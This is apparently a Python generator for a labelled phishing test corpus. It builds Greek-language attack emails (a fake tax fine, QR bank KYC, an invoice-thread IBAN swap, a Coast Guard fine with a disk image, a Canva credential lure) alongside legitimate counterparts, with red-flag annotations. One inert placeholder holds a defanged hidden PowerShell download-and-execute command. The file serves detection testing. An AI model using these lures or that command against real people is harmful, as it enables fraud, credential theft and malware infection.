"""Greek messages: attack 32-36, business 32-36."""
import base64

from lib.msg import M, message, outlook_html, gmail_html, tb_html, esc
from lib.senders import (env, h_outlook, h_gmail, h_thunderbird, h_outlook_desktop, h_apple, h_phpmailer,
                         h_generic, via_m365, via_exchange, via_gmail, finish)
from lib import mta, docs, ids, qr, png, containers, pdf, mime
from lib.mime import Part, Multipart, RawPart
from lib.org import S, CO, OFF
from lib.util import utc, plus, rfc_date, hexs, alnum, uuid4, addr, local, epoch, b64rand, postfix_qid, exim_id, encoded_word
from msgs.common import outlook_bounds, alt, att, inline_img, mixed, related, text_part, html_part, quote_lines, a_href

GR = OFF["GR"]
ALI = CO["alimos"]
AEG = CO["aegean"]
AFM = GR["tax"][0][1]


def _b64s(s, cs="UTF-8"):
    return "=?%s?B?%s?=" % (cs, base64.b64encode(s.encode(cs)).decode())


def _fmt(v):
    return "{:,.2f}".format(v).replace(",", "X").replace(".", ",").replace("X", ".")


def _canva(m, root, hdrs):
    body = root.payload()
    pre, post, client, t_mx, (bp, bp2) = mta.ses(m.env, body, "us-east-1", "canva.com", "canva2", "224i4yxa5dv7c2xz3womw6peuasteono",
                                                "1.us-east-1.%s=:AmazonSES" % b64rand(m.r, 30).rstrip("="))
    return finish(m, root, dict(spf="pass", dkim=[("pass", "canva.com", "canva2", bp, 2048), ("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", bp2, 1024)],
                                dmarc=("pass", "reject", "canva.com")), pre, client, t_mx, hdrs + post)


def _canva_html(who, title, msg, link):
    return ("<!DOCTYPE html><html lang=\"el\"><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"></head>"
            "<body style=\"margin:0;background:#f2f3f5;font-family:'Canva Sans',Helvetica,Arial,sans-serif\"><table width=\"100%%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\" style=\"padding:32px 12px\">"
            "<table width=\"520\" style=\"background:#fff;border-radius:12px\"><tr><td style=\"padding:28px 36px 8px\"><img src=\"https://static.canva.com/emails/canva-logo.png\" width=\"80\" alt=\"Canva\"></td></tr>"
            "<tr><td style=\"padding:8px 36px;font-size:20px;font-weight:600;color:#0e1318\">%s σας προσκάλεσε να επεξεργαστείτε ένα σχέδιο</td></tr>"
            "<tr><td style=\"padding:8px 36px;font-size:15px;color:#0e1318\"><b>%s</b></td></tr>"
            "<tr><td style=\"padding:8px 36px;font-size:14px;color:#444\">&laquo;%s&raquo;</td></tr>"
            "<tr><td style=\"padding:20px 36px\"><a href=\"%s\" style=\"background:#8b3dff;color:#fff;padding:12px 26px;border-radius:8px;text-decoration:none;font-weight:600\">Άνοιγμα σχεδίου</a></td></tr>"
            "<tr><td style=\"padding:16px 36px 28px;font-size:11px;color:#6b7280\">Canva Pty Ltd, 110 Kippax Street, Surry Hills NSW 2010, Australia<br>"
            "Λάβατε αυτό το email επειδή κάποιος μοιράστηκε ένα σχέδιο μαζί σας.</td></tr></table></td></tr></table></body></html>"
            % (esc(who), esc(title), esc(msg), link))


# =====================================================================================
# ATTACKS
# =====================================================================================

@message("attack", "32-el-aade-mydata-prostimo.eml")
def a32():
    m = M("attack", "32-el-aade-mydata-prostimo.eml")
    t = utc(2026, 11, 2, 7, 31, 10)
    dom = "myaade-gov.com"
    env(m, t, S["acc_gr"].email, "bounce+%s.%s=examplegroup.eu@mg.%s" % (hexs(m.r, 6), S["acc_gr"].email.split("@")[0], dom))
    link = m.url("https://myaade-gov.com/taxisnet/login?afm=%s&ref=MYDATA-2026Q3" % AFM, "TAXISnet credential phishing")
    paras = ["Αξιότιμε/η φορολογούμενε,",
             "κατά τη διασταύρωση των δεδομένων της ψηφιακής πλατφόρμας myDATA για το Γ' τρίμηνο 2026 διαπιστώθηκαν αποκλίσεις μεταξύ των "
             "διαβιβασθέντων παραστατικών εσόδων και των εισπράξεων μέσω POS για τον ΑΦΜ %s." % AFM,
             "Σύμφωνα με το άρθρο 54 του Κώδικα Φορολογικής Διαδικασίας, επιβάλλεται πρόστιμο ύψους 2.500,00 €.",
             "Έχετε δικαίωμα υποβολής απόψεων εντός πέντε (5) εργάσιμων ημερών μέσω της εφαρμογής myAADE. Μετά την παρέλευση της προθεσμίας "
             "η πράξη καθίσταται οριστική και βεβαιώνεται στη ΔΟΥ.",
             "Με εκτίμηση,", "Ανεξάρτητη Αρχή Δημοσίων Εσόδων - Διεύθυνση Ελέγχων"]
    html = ("<html><body style=\"font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b\"><div style=\"background:#003476;color:#fff;padding:14px 24px;font-size:18px\">ΑΑΔΕ · myAADE</div>"
            "<div style=\"padding:16px 24px\">" + "".join("<p>%s</p>" % esc(p) for p in paras[:4])
            + "<p><a href=\"%s\" style=\"background:#003476;color:#fff;padding:10px 20px;text-decoration:none\">Είσοδος στο myAADE (TAXISnet)</a></p>" % link
            + "".join("<p>%s</p>" % esc(p) for p in paras[4:]) + "</div></body></html>")
    text = "\n\n".join(paras[:4]) + "\n\nΕίσοδος στο myAADE (TAXISnet): %s\n\n" % link + "\n".join(paras[4:]) + "\n"
    root = alt(text, html, "utf-8", "quoted-printable", m.boundary("generic"))
    msgid = "<%s.%s@mg.%s>" % (int(epoch(t)), hexs(m.r, 12), dom)
    hdrs = [("Mime-Version", "1.0"), ("MIME", None), ("Subject", _b64s("myDATA: Διαπιστώθηκαν αποκλίσεις στα διαβιβασθέντα παραστατικά – Επιβολή προστίμου")),
            ("From", "=?UTF-8?B?%s?= <enimerosi@%s>" % (base64.b64encode("ΑΑΔΕ - myAADE".encode()).decode(), dom)),
            ("To", S["acc_gr"].email), ("Message-Id", msgid), ("Date", rfc_date(t, "UTC", "pad"))]
    body = root.payload()
    pre, post, client, t_mx, bp = mta.mailgun(m.env, body, dom, "mg." + dom)
    finish(m, root, dict(spf="pass", dkim=[("pass", dom, "mx", bp, 1024)], dmarc=("pass", "none", dom)), pre, client, t_mx, hdrs + post)
    m.info = dict(charset="utf-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Greek tax authority (AADE/myDATA) 'fine' notice that sends the accountant to a fake TAXISnet login",
                  why="Look-alike myaade-gov.com via Mailgun; AADE communicates through the myAADE inbox and never links to a login on another domain; "
                      "fine + 5-day deadline")
    return m


@message("attack", "33-el-alpha-bank-qr-kyc.eml")
def a33():
    m = M("attack", "33-el-alpha-bank-qr-kyc.eml")
    t = utc(2026, 11, 20, 8, 2, 33)
    dom = "alpha-bank-business.com"
    sender = "kyc@" + dom
    env(m, t, S["acc_gr"].email, sender)
    payload = "https://alphabank-kyc-gr.com/m/?c=EYH-%s" % AFM
    m.url(payload, "QR target (inline image)")
    pngdata, _mat = m.qr_png(payload, scale=5, quiet=4, where="kyc_qr.png")
    logo = docs.logo_png(120, 40, (255, 255, 255), (0, 70, 140), "bars")
    paras = ["Αγαπητέ πελάτη,",
             "Σύμφωνα με τον Ν. 4557/2018 για την πρόληψη και καταστολή της νομιμοποίησης εσόδων από εγκληματικές δραστηριότητες, "
             "οι επιχειρήσεις που χρησιμοποιούν το Alpha Web Banking Επιχειρήσεων οφείλουν να επικαιροποιήσουν τα στοιχεία τους έως 27/11/2026.",
             "Για λόγους ασφαλείας η διαδικασία ολοκληρώνεται αποκλειστικά από κινητό τηλέφωνο: σαρώστε τον παρακάτω κωδικό QR με την κάμερα "
             "του κινητού σας και ακολουθήστε τις οδηγίες.",
             "Σε περίπτωση μη επικαιροποίησης, η πρόσβαση στις συναλλαγές της επιχείρησης θα περιοριστεί προσωρινά.",
             "Με εκτίμηση,", "Alpha Bank - Τμήμα Εξυπηρέτησης Επιχειρήσεων"]
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1253\"></head><body style=\"font-family:Tahoma,Arial;font-size:13px\">"
            "<img src=\"cid:logo_ab@alpha\" width=\"120\" height=\"40\" alt=\"Alpha Bank\"><br>"
            + "".join("<p>%s</p>" % esc(p) for p in paras[:3])
            + "<p><img src=\"cid:kyc_qr@alpha\" width=\"185\" height=\"185\" alt=\"QR\"></p>"
            + "".join("<p>%s</p>" % esc(p) for p in paras[3:])
            + "<p style=\"font-size:10px;color:#777\">Alpha Bank A.E., Σταδίου 40, 102 52 Αθήνα. Μην απαντάτε σε αυτό το μήνυμα.</p></body></html>")
    root = related([html_part(html, "windows-1253", "quoted-printable"),
                    Part("image/png", logo, cte="base64", filename="logo.png", disposition="inline", cid="logo_ab@alpha"),
                    Part("image/png", pngdata, cte="base64", filename="kyc_qr.png", disposition="inline", cid="kyc_qr@alpha")],
                   m.boundary("phpmailer"), type_="text/html")
    msgid = m.msgid_php(dom)
    hdrs = h_phpmailer(m, "Alpha Bank <%s>" % sender, [S["acc_gr"].email],
                       "Alpha Web Banking Επιχειρήσεων: Υποχρεωτική επικαιροποίηση στοιχείων (KYC)", t, "EET", msgid,
                       charset="windows-1253", enc="B", version="6.9.1")
    body = root.payload()
    pre, client, t_mx, bp = mta.exim(m.env, "vps-7741.cloudhosting-gr.net", "203.0.113.171", body, sender, auth=False,
                                     dkim_d=dom, dkim_s="default", zone="EET")
    finish(m, root, dict(spf="pass", dkim=[("pass", dom, "default", bp, 2048)], dmarc=("pass", "none", dom)), pre, client, t_mx, hdrs)
    m.info = dict(charset="windows-1253", cte="quoted-printable", structure="related(text/html, inline PNG logo, inline PNG QR code)",
                  what="Quishing: 'Alpha Bank' KYC update that must be done on the phone by scanning an inline QR code",
                  why="Look-alike alpha-bank-business.com from a VPS (PHPMailer); the only link is the QR image, pushing the victim to an unmanaged phone; "
                      "regulatory pretext and restriction threat")
    return m


@message("attack", "34-el-alimos-thread-hijack-iban.eml")
def a34():
    m = M("attack", "34-el-alimos-thread-hijack-iban.eml")
    t = utc(2026, 12, 7, 9, 40, 51)
    sender = ALI.people[1][1]
    env(m, t, S["acc_gr"].email, sender)
    lt_iban = m.iban(ids.lt_iban(32500, 48217735012), "new 'company' account at Revolut Bank UAB (LT, bank code 32500)")
    q_t = utc(2026, 12, 3, 10, 5, 0)
    orig = ("Καλημέρα σας,\n\nστο συνημμένο το τιμολόγιο ΤΠΥ 1911 για την αντιρρυπαντική βαφή και τα ανόδια των 6 σκαφών της βάσης (Νοέμβριος 2026).\n\n"
            "Με εκτίμηση\nΛογιστήριο\nAlimos Marine Services Ι.Κ.Ε.")
    paras = ["Καλημέρα κ. Γεωργίου,", "",
             "σχετικά με το τιμολόγιο ΤΠΥ 1911, σας ενημερώνουμε ότι λόγω ελέγχου που διενεργεί η Τράπεζα Πειραιώς στον λογαριασμό μας "
             "οι εισερχόμενες πληρωμές αναστέλλονται έως το τέλος του μήνα.", "",
             "Παρακαλούμε η εξόφληση να γίνει στον νέο λογαριασμό της εταιρείας μας:", "",
             "Δικαιούχος: ALIMOS MARINE SERVICES IKE\nIBAN: %s\nBIC: REVOLT21\nΤράπεζα: Revolut Bank UAB" % ids.iban_print(lt_iban), "",
             "Επισυνάπτουμε το τιμολόγιο με τα ενημερωμένα στοιχεία. Παρακαλούμε επιβεβαιώστε μας με email όταν γίνει η μεταφορά.", "",
             "Με εκτίμηση", "Λογιστήριο", "Alimos Marine Services Ι.Κ.Ε."]
    text = "\n".join(paras) + "\n\n" + "Στις %s, Λογιστήριο έγραψε:\n" % local(q_t, "EET")[0].strftime("%d/%m/%Y %H:%M") + quote_lines(orig) + "\n"
    lt, _ = local(t, "EET")
    rows = [["Αντιρρυπαντική βαφή Hempel, 6 σκάφη (Bavaria C46/C42, Lagoon 42)", "6.240,00"], ["Ανόδια άξονα & flaps, τοποθέτηση", "1.180,00"],
            ["Ανέλκυση/καθέλκυση travel lift", "900,00"]]
    doc = docs.invoice({"Title": "ΤΠΥ 1911", "Producer": "Microsoft: Print To PDF", "CreationDate": pdf.pdf_date(lt)},
                       "Alimos Marine Services Ι.Κ.Ε.", "Τεχνική υποστήριξη σκαφών · Μαρίνα Αλίμου", "#0B6E4F",
                       "Alimos Marine Services Ι.Κ.Ε. · Λεωφ. Ποσειδώνος 12 · 174 55 Άλιμος · ΑΦΜ %s" % ALI.afm,
                       ["Example Yachting Hellas Μονοπρόσωπη Ι.Κ.Ε.", "Λεωφ. Ποσειδώνος 44", "174 55 Άλιμος", "ΑΦΜ %s" % AFM],
                       "ΤΙΜΟΛΟΓΙΟ ΠΑΡΟΧΗΣ ΥΠΗΡΕΣΙΩΝ ΤΠΥ 1911",
                       [("Ημερομηνία", "03/12/2026"), ("Σειρά", "Α"), ("Τρόπος πληρωμής", "Έμβασμα")],
                       [("Περιγραφή", 380), ("Ποσό €", 103)], rows, ["l", "r"],
                       [("Καθαρή αξία", "8.320,00", False), ("ΦΠΑ 24%", "1.996,80", False), ("Σύνολο", "10.316,80 €", True)],
                       ["Τρόπος πληρωμής: κατάθεση στον λογαριασμό IBAN %s (Revolut Bank UAB) - ΝΕΟΣ ΛΟΓΑΡΙΑΣΜΟΣ" % ids.iban_print(lt_iban)],
                       ["Alimos Marine Services Ι.Κ.Ε. · ΓΕΜΗ 149284401000 · ΔΟΥ Γλυφάδας"], logo="bar")
    pdfdata = doc.render()
    root = mixed([Part("text/plain", text, charset="UTF-8", cte="quoted-printable", quote_charset=False, ct_extra="; format=flowed"),
                  Part("application/pdf", pdfdata, cte="base64", filename="TPY_1911_enimeromeno.pdf", disposition="attachment")],
                 m.boundary("roundcube"))
    msgid = "<%s@alimosmarine.gr>" % hexs(m.r, 32)
    irt = m.msgid_outlook_desktop("alimosmarine.gr")
    hdrs = [("MIME-Version", "1.0"), ("Date", rfc_date(t, "EET")), ("From", "=?UTF-8?B?%s?= <%s>" % (base64.b64encode("Λογιστήριο Alimos Marine".encode()).decode(), sender)),
            ("To", "Nikolaos Georgiou <%s>" % S["acc_gr"].email), ("Cc", "Eleni Papadopoulou <%s>" % S["om_gr"].email),
            ("Subject", _b64s("RE: Τιμολόγιο ΤΠΥ 1911 - Αντιρρυπαντική στόλου Νοέμβριος")), ("In-Reply-To", irt), ("References", irt),
            ("Message-ID", msgid), ("X-Sender", sender), ("User-Agent", "Roundcube Webmail/1.6.7"), ("MIME", None)]
    body = root.payload()
    pre, client, t_mx, bp = mta.exim(m.env, "s217.cloudhost.gr", "198.51.100.77", body, sender, client_ip="185.220.101.%d" % m.r.randrange(2, 250),
                                     client_helo="s217.cloudhost.gr", dkim_d="alimosmarine.gr", dkim_s="default", zone="EET")
    finish(m, root, dict(spf="pass", dkim=[("pass", "alimosmarine.gr", "default", bp, 2048)], dmarc=("pass", "none", "alimosmarine.gr")),
           pre, client, t_mx, hdrs)
    m.info = dict(charset="UTF-8", cte="quoted-printable (format=flowed)", structure="mixed(text/plain, PDF invoice)",
                  what="Supplier's real (compromised) accounting mailbox replies in an invoice thread asking to pay to a Lithuanian Revolut IBAN",
                  why="Hijacked mailbox: auth passes for alimosmarine.gr, but sent via Roundcube from a Tor exit (the supplier uses Outlook), Greek supplier "
                      "suddenly with an LT account, 'bank is auditing our account', confirm by e-mail only")
    return m


@message("attack", "35-el-limeniko-img-prostimo.eml")
def a35():
    m = M("attack", "35-el-limeniko-img-prostimo.eml")
    t = utc(2026, 10, 16, 6, 58, 40)
    sender = "limenarxeio.peiraia.ls@yahoo.com"
    env(m, t, S["base_gr"].email, sender)
    lnk = ("INERT TEST PLACEHOLDER - NOT A REAL SHORTCUT.\r\nRepresents a .lnk that would run:\r\n"
           "cmd.exe /c start /min powershell -nop -w hidden -c \"iex(iwr hxxp://91.92.243[.]17/gr/p.txt)\"\r\n")
    m.fact("Payload URL (defanged)", "hxxp://91.92.243[.]17/gr/p.txt", "text inside inert LNK placeholder")
    long = "Πράξη_Επιβολής_Προστίμου_2214_2026.pdf.lnk"
    img = containers.make_iso([(long, lnk.encode(), "PRAXI_~1.LNK")], "LS_2214_2026", dt=(2026, 10, 16, 9, 50, 0))
    paras = ["Κύριε/Κυρία,",
             "Σας γνωστοποιούμε ότι κατά τον έλεγχο που διενεργήθηκε την 14/10/2026 στη Μαρίνα Αλίμου στο επαγγελματικό πλοιάριο "
             "αναψυχής «ΘΑΛΑΣΣΑ» (Bavaria C46), εκμετάλλευσης της εταιρείας σας, διαπιστώθηκαν παραβάσεις του Κανονισμού Λιμένα "
             "(ελλιπής εξοπλισμός ασφαλείας, μη ενημερωμένη κατάσταση επιβαινόντων).",
             "Επισυνάπτεται η Πράξη Επιβολής Προστίμου αρ. 2214/2026 (αρχείο εικόνας δίσκου - ανοίξτε το με διπλό κλικ).",
             "Η προθεσμία άσκησης προσφυγής είναι δέκα (10) ημέρες από την κοινοποίηση.",
             "Με εντολή Λιμενάρχη", "Λιμεναρχείο Πειραιά - Γραφείο Ελέγχου Σκαφών Αναψυχής"]
    html = ("<html><head></head><body><div class=\"ydp\" style=\"font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;\">"
            + "".join("<div>%s</div><div><br></div>" % esc(p) for p in paras) + "</div></body></html>")
    text = "\n\n".join(paras) + "\n"
    root = mixed([alt(text, html, "UTF-8", "base64", m.boundary("generic"), quote_cs=False),
                  Part("application/octet-stream", img, cte="base64", filename="Praxi_Epivolis_Prostimou_2214_2026.img", disposition="attachment")],
                 m.boundary("generic"))
    msgid = "<%d.%d.%d@mail.yahoo.com>" % (m.r.randrange(10 ** 8, 10 ** 9), m.r.randrange(10 ** 6, 10 ** 7), int(epoch(t)) * 1000)
    hdrs = [("Date", rfc_date(t, "UTC", "std")), ("From", "=?UTF-8?B?%s?= <%s>" % (base64.b64encode("Λιμενικό Σώμα - Ελληνική Ακτοφυλακή".encode()).decode(), sender)),
            ("To", S["base_gr"].email), ("Message-ID", msgid),
            ("Subject", _b64s("Πράξη Επιβολής Προστίμου 2214/2026 - Σκάφος «ΘΑΛΑΣΣΑ»")),
            ("MIME-Version", "1.0"), ("MIME", None), ("X-Mailer", "WebService/1.1.24652 YMailNorrin")]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "yahoo.com", "s2048", "Date:From:To:Subject:References:From:Subject:Reply-To", body, t=int(epoch(t)), style="exim")
    pre = [("DKIM-Signature", dv), ("X-SONIC-DKIM-SIGN", "v=1; a=rsa-sha256; c=relaxed/relaxed; d=yahoo.com; s=s2048; t=%d; bh=%s; h=X-Sonic-MF:Date:From:To:Subject:From:Subject; b=%s"
                                    % (epoch(t), mta.body_hash(body), mta._wrap(b64rand(r, 256), 40, 72, "\r\n\t"))),
           ("X-YMail-OSG", alnum(r, 200)), ("X-Sonic-MF", "<%s>" % sender), ("X-Sonic-ID", uuid4(r)),
           ("Received", "from sonic.gate.mail.ne1.yahoo.com by sonic315.consmr.mail.ne1.yahoo.com with HTTP; %s" % rfc_date(t, "UTC", "std"))]
    ip = "66.163.190.%d" % r.randrange(140, 160)
    client = ("sonic315-20.consmr.mail.ne1.yahoo.com", "sonic315-20.consmr.mail.ne1.yahoo.com", ip, mta.TLS12)
    finish(m, root, dict(spf="pass", dkim=[("pass", "yahoo.com", "s2048", bp, 2048)], dmarc=("pass", "reject", "yahoo.com")), pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="UTF-8", cte="base64", structure="mixed(alternative(text, html), IMG disk image)",
                  what="'Hellenic Coast Guard' fine notice for a charter yacht, with a disk image containing a shortcut",
                  why="Authority on a Yahoo address; fines are served on paper/through the skipper, not as .img files; disk image with a Greek-named "
                      ".pdf.lnk (inert placeholder); trade-specific pretext (charter yacht inspection at Alimos)")
    return m


@message("attack", "36-el-canva-sxedio-pliromi.eml")
def a36():
    m = M("attack", "36-el-canva-sxedio-pliromi.eml")
    t = utc(2026, 11, 13, 12, 6, 18)
    env(m, t, S["om_gr"].email, "010001%s-%s-000000@amazonses.com" % (hexs(m.r, 10), uuid4(m.r)))
    link = m.url("https://www.canva.com/design/DAG8kQ2xY7b/Vn3qE8rT1pZk5mW9cX2aLg/view?utm_content=DAG8kQ2xY7b&utm_campaign=designshare&utm_medium=link2&utm_source=sharebutton",
                 "real Canva design whose 'Προβολή εγγράφου' button leads to a credential page")
    who = "Ιωάννης Παππάς"
    title = "Ναύλωση 2027 - Επιβεβαίωση κράτησης & οδηγίες πληρωμής"
    msg = "Καλησπέρα, στο σχέδιο θα βρείτε την επιβεβαίωση για τα 2 σκάφη του Ιουλίου και το link για το συμβόλαιο. Ευχαριστώ!"
    html = _canva_html(who, title, msg, link)
    text = "%s σας προσκάλεσε να επεξεργαστείτε ένα σχέδιο\n\n%s\n\n«%s»\n\nΆνοιγμα σχεδίου: %s\n\nCanva Pty Ltd\n" % (who, title, msg, link)
    root = alt(text, html, "UTF-8", "quoted-printable", m.boundary("ses"), quote_cs=False)
    msgid = "<010001%s-%s-000000@email.amazonses.com>" % (hexs(m.r, 10), uuid4(m.r))
    hdrs = [("From", "Canva <no-reply@canva.com>"), ("Reply-To", "ioannis.pappas.yachting@gmail.com"), ("To", S["om_gr"].email),
            ("Subject", _b64s("%s σας προσκάλεσε να επεξεργαστείτε το σχέδιο «%s»" % (who, title))),
            ("MIME-Version", "1.0"), ("MIME", None), ("Message-ID", msgid), ("Date", rfc_date(t, "UTC", "pad")),
            ("X-Canva-Template", "design_invite_edit")]
    _canva(m, root, hdrs)
    m.fact("Reply-To", "ioannis.pappas.yachting@gmail.com", "unknown 'client' behind the Canva share")
    m.info = dict(charset="UTF-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Canva design share from an unknown 'customer' about 2027 charter booking and payment, leading to a credential page",
                  why="Genuine Canva infrastructure abused; sender unknown to the base, booking/payment via a Canva design is not how charters work; "
                      "the design contains a button to a phishing login")
    return m


# =====================================================================================
# BUSINESS
# =====================================================================================

@message("business", "32-el-aade-thyrida-enimerosi.eml")
def b32():
    m = M("business", "32-el-aade-thyrida-enimerosi.eml")
    t = utc(2026, 11, 3, 9, 2, 45)
    env(m, t, S["acc_gr"].email, "noreply@aade.gr")
    u = m.url("https://www.aade.gr", "AADE home page only")
    paras = ["Αγαπητέ/ή χρήστη,",
             "σας ενημερώνουμε ότι στην ψηφιακή θυρίδα σας στην εφαρμογή myAADE υπάρχει νέο μήνυμα που αφορά τον ΑΦΜ %s." % AFM,
             "Για να δείτε το μήνυμα, συνδεθείτε στην ιστοσελίδα %s → myAADE → Θυρίδα, με τους προσωπικούς σας κωδικούς TAXISnet." % u,
             "Η ΑΑΔΕ δεν αποστέλλει ποτέ μηνύματα ηλεκτρονικού ταχυδρομείου που ζητούν κωδικούς πρόσβασης ή στοιχεία καρτών, ούτε "
             "συνδέσμους σε σελίδες σύνδεσης.",
             "Ανεξάρτητη Αρχή Δημοσίων Εσόδων", "Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε."]
    html = ("<html><body style=\"font-family:Arial,sans-serif;font-size:14px\"><div style=\"background:#003476;color:#fff;padding:12px 20px\">ΑΑΔΕ</div>"
            + "".join("<p>%s</p>" % esc(p) for p in paras) + "</body></html>")
    text = "\n\n".join(paras) + "\n"
    root = alt(text, html, "UTF-8", "base64", m.boundary("javamail"), quote_cs=False)
    msgid = "<%d.%d.%d.JavaMail.mailer@aade-notif%02d>" % (m.r.randrange(10 ** 8, 10 ** 9), m.r.randrange(10, 99), int(epoch(t)) * 1000, m.r.randrange(1, 9))
    hdrs = [("Date", rfc_date(t, "EET")), ("From", "=?UTF-8?B?%s?= <noreply@aade.gr>" % base64.b64encode("ΑΑΔΕ".encode()).decode()),
            ("To", S["acc_gr"].email), ("Message-ID", msgid), ("Subject", _b64s("Νέο μήνυμα στη θυρίδα σας στο myAADE")),
            ("MIME-Version", "1.0"), ("MIME", None)]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "aade.gr", "aade2025", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", body, t=int(epoch(t)))
    pre = [("DKIM-Signature", dv),
           ("Received", "from aade-notif%02d.gsis.gr (aade-notif.gsis.gr [10.18.%d.%d])\r\n\tby mailgw2.aade.gr (Postfix) with ESMTP id %s\r\n\tfor <%s>; %s"
            % (r.randrange(1, 9), r.randrange(256), r.randrange(256), postfix_qid(r, t), S["acc_gr"].email, rfc_date(t, "EET", "postfix")))]
    client = ("mailgw2.aade.gr", "mailgw2.aade.gr", "192.0.2.132", mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "aade.gr", "aade2025", bp, 2048)], dmarc=("pass", "reject", "aade.gr")), pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="UTF-8", cte="base64", structure="alternative(text, html)",
                  what="AADE notification that a new message is waiting in the myAADE inbox",
                  why="aade.gr with aligned DKIM/DMARC, no login link (only www.aade.gr), no amount, explicitly warns against credential requests",
                  mirrors=["32-el-aade-mydata-prostimo.eml"], differs="official domain; no fine/deadline; no login link")
    return m


@message("business", "33-el-alimos-timologio-qr.eml")
def b33():
    m = M("business", "33-el-alimos-timologio-qr.eml")
    t = utc(2026, 10, 30, 10, 14, 6)
    sender = ALI.people[1][1]
    env(m, t, S["acc_gr"].email, sender)
    iban = m.iban(ALI.bank[2], "Alimos Marine's Piraeus Bank account, as on all invoices")
    mark = m.fact("myDATA MARK", "400001945872316", "transmission identifier of the invoice in myDATA")
    payload = "https://www1.aade.gr/tameiakes/myweb/q1.php?SIG=EA5F3C7B21D09E4A6C8B2F1E0D7A3C5B9E2F4A6D&MARK=400001945872316"
    m.qr.append(("PDF TPY_1874.pdf", payload))
    lt, _ = local(t, "EET")
    rows = [["Συντήρηση κινητήρα Volvo D2-50, σκάφος «ΕΡΜΗΣ» (Bavaria C46)", "1.240,00"], ["Αντικατάσταση φτερωτής & ιμάντα, «ΚΑΛΥΨΩ»", "385,00"],
            ["Καύσιμα ανεφοδιασμού βάσης (απόδειξη 18/10)", "612,50"]]
    doc = docs.invoice({"Title": "ΤΠΥ 1874", "Producer": "SoftOne ERP", "CreationDate": pdf.pdf_date(lt)},
                       "Alimos Marine Services Ι.Κ.Ε.", "Τεχνική υποστήριξη σκαφών · Μαρίνα Αλίμου", "#0B6E4F",
                       "Alimos Marine Services Ι.Κ.Ε. · Λεωφ. Ποσειδώνος 12 · 174 55 Άλιμος · ΑΦΜ %s" % ALI.afm,
                       ["Example Yachting Hellas Μονοπρόσωπη Ι.Κ.Ε.", "Λεωφ. Ποσειδώνος 44", "174 55 Άλιμος", "ΑΦΜ %s · ΚΕΦΟΔΕ Αττικής" % AFM],
                       "ΤΙΜΟΛΟΓΙΟ ΠΑΡΟΧΗΣ ΥΠΗΡΕΣΙΩΝ Α 1874",
                       [("Ημερομηνία", "30/10/2026"), ("ΜΑΡΚ", mark), ("Τρόπος πληρωμής", "Πίστωση 30 ημ.")],
                       [("Περιγραφή", 380), ("Ποσό €", 103)], rows, ["l", "r"],
                       [("Καθαρή αξία", "2.237,50", False), ("ΦΠΑ 24%", "537,00", False), ("Σύνολο", "2.774,50 €", True)],
                       ["Πληρωμή με κατάθεση: Τράπεζα Πειραιώς, IBAN %s" % ids.iban_print(iban),
                        "Το παραστατικό έχει διαβιβαστεί στην ΑΑΔΕ (myDATA). Σαρώστε τον κωδικό QR για επαλήθευση."],
                       ["Alimos Marine Services Ι.Κ.Ε. · ΓΕΜΗ 149284401000 · ΔΟΥ Γλυφάδας · τηλ. 210 98 23 441"],
                       qr_payload=payload, qr_caption="Επαλήθευση παραστατικού ΑΑΔΕ", logo="bar")
    pdfdata = doc.render()
    paras = ["Καλημέρα σας,", "",
             "στο συνημμένο το τιμολόγιο Α 1874 για τις εργασίες του Οκτωβρίου στα σκάφη της βάσης και τα καύσιμα. "
             "Το παραστατικό έχει ήδη διαβιβαστεί στο myDATA (ΜΑΡΚ %s)." % mark, "",
             "Πληρωμή όπως πάντα στον λογαριασμό μας στην Πειραιώς.", "",
             "Με εκτίμηση", "Λογιστήριο", "Alimos Marine Services Ι.Κ.Ε.", "τηλ. 210 98 23 441"]
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "EL").replace("charset=utf-8", "charset=iso-8859-7")
    msgid = m.msgid_outlook_desktop("alimosmarine.gr")
    root = mixed([alt(text, html, "iso-8859-7", "quoted-printable", m.np(1)),
                  Part("application/pdf", pdfdata, cte="base64", filename="TPY_1874.pdf", disposition="attachment")], m.np(0))
    hdrs = h_outlook_desktop(m, "=?iso-8859-7?B?%s?= <%s>" % (base64.b64encode("Λογιστήριο Alimos Marine".encode("iso-8859-7")).decode(), sender),
                             ["Nikolaos Georgiou <%s>" % S["acc_gr"].email], "Τιμολόγιο ΤΠΥ Α 1874 - Οκτώβριος 2026", t, "EET", msgid,
                             lang="el", charset="iso-8859-7", subj_enc="B")
    body = root.payload()
    pre, client, t_mx, bp = mta.exim(m.env, "s217.cloudhost.gr", "198.51.100.77", body, sender, client_ip="94.69.%d.%d" % (m.r.randrange(256), m.r.randrange(256)),
                                     client_helo="LOGISTIRIO-PC", dkim_d="alimosmarine.gr", dkim_s="default", zone="EET")
    finish(m, root, dict(spf="pass", dkim=[("pass", "alimosmarine.gr", "default", bp, 2048)], dmarc=("pass", "none", "alimosmarine.gr")),
           pre, client, t_mx, hdrs)
    m.info = dict(charset="iso-8859-7", cte="quoted-printable", structure="mixed(alternative(text, html), PDF invoice with myDATA QR)",
                  what="Supplier's regular monthly invoice from its Outlook client, with myDATA MARK and verification QR code",
                  why="Usual client and path (Outlook -> cPanel relay, Greek ISP address), known Piraeus IBAN, MARK registered with AADE",
                  mirrors=["34-el-alimos-thread-hijack-iban.eml", "33-el-alpha-bank-qr-kyc.eml"],
                  differs="same supplier, known IBAN and client software; QR only verifies the invoice at aade.gr")
    return m


@message("business", "34-el-aegean-kratisi-docx.eml")
def b34():
    m = M("business", "34-el-aegean-kratisi-docx.eml")
    t = utc(2026, 10, 12, 12, 44, 19)
    sender = AEG.people[0][1]
    env(m, t, S["om_gr"].email, sender)
